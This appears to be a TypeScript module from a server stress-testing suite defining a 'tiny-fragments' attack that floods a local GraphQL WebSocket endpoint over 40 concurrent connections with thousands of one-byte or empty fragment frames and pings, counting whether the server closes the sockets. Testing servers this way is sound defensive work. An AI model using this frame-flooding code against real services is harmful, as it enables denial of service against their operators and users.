import { randomBytes } from 'node:crypto';
import { setTimeout as delay } from 'node:timers/promises';
import type { Attack } from '../../attack.ts';

const SOCKETS = 40;
/** Frames of one write: 7 bytes each with a byte, 6 without. */
const AT_ONCE = 9_000;

/** Masked frames of a client: a message that begins, and goes on in pieces of so many bytes; with a ping after every tenth. */
function fragments(bytes: 0 | 1): Buffer {
  const frame = (head: number, length: number) =>
    Buffer.concat([Buffer.from([head, 0x80 | length, 0, 0, 0, 0]), Buffer.alloc(length, ' ')]);
  const next = frame(0x00, bytes);
  const ping = frame(0x89, 0);
  return Buffer.concat(Array.from({ length: AT_ONCE }, (_, nth) => (nth % 10 === 9 ? ping : next)));
}

const PIECES = [fragments(0), fragments(1)];
const BEGIN = Buffer.from([0x01, 0x81, 0, 0, 0, 0, 0x20]);

export const tinyFragments: Attack = {
  name: 'tiny-fragments',
  description: `sends messages in ${AT_ONCE.toLocaleString('en')} fragments of a byte or none, with pings between them, over ${SOCKETS} WebSockets at a time`,
  run: async (attacker) => {
    await attacker.repeat(SOCKETS, 5_000, async (nth) => {
      const socket = attacker.connect();
      const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
      socket.on('data', () => {});
      socket.write(
        `GET /graphql HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Protocol: graphql-transport-ws\r\nSec-WebSocket-Key: ${randomBytes(16).toString('base64')}\r\n\r\n`,
      );
      await Promise.race([closed, new Promise((resolve) => socket.once('data', resolve))]);
      socket.write(BEGIN);
      for (let sent = 0; sent < 20 && !socket.destroyed && !attacker.signal.aborted; sent++) {
        socket.write(PIECES[nth % 2] as Buffer);
        await Promise.race([closed, delay(10)]);
      }
      attacker.count(socket.destroyed ? 'closed' : 'still open');
      socket.destroy();
    });
  },
};
